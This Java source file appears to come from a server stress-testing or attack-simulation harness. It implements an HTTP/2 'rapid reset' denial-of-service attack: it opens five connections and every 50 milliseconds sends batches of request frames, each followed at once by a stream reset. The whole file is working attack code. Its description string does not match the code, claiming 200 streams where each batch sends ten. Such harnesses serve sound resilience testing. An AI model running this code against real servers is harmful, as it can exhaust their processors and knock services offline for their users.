package dev.belfry.attack.strangers;

import dev.belfry.attack.stage.Http2Frames;
import dev.belfry.attack.stage.Stage;
import dev.belfry.attack.stage.Stranger;
import java.io.IOException;
import java.time.Duration;

/**
 * Requests that are taken back at once (rapid reset). No more of them than one processor could answer: a flood of any request at all
 * takes a processor.
 */
final class Http2Resets implements Attack {
    private static final int CONNECTIONS = 5;
    private static final int EACH_TIME = 10;

    private int stream = 1;

    @Override
    public String name() {
        return "h2-resets";
    }

    @Override
    public String what() {
        return CONNECTIONS + " connections of HTTP/2, each with 200 streams and publications a second, all reset";
    }

    @Override
    public void run(Stage stage) throws IOException {
        stream = 1;
        stage.crowd()
                .gather(
                        CONNECTIONS,
                        stranger ->
                                stranger.send(Http2Frames.connection(1 << 20).bytes()));
        stage.every(Duration.ofMillis(50), () -> {
            byte[] resets = nextResets();
            stage.crowd().strangers().stream().filter(Stranger::isOpen).forEach(stranger -> stranger.send(resets));
        });
    }

    private byte[] nextResets() {
        Http2Frames frames = new Http2Frames();
        for (int i = 0; i < EACH_TIME; i++, stream += 2) {
            if (i % 2 == 0) {
                frames.get(stream, "", "accept", "text/event-stream");
            } else {
                frames.post(stream).data(stream, new byte[3]);
            }
            frames.reset(stream);
        }
        return frames.bytes();
    }
}
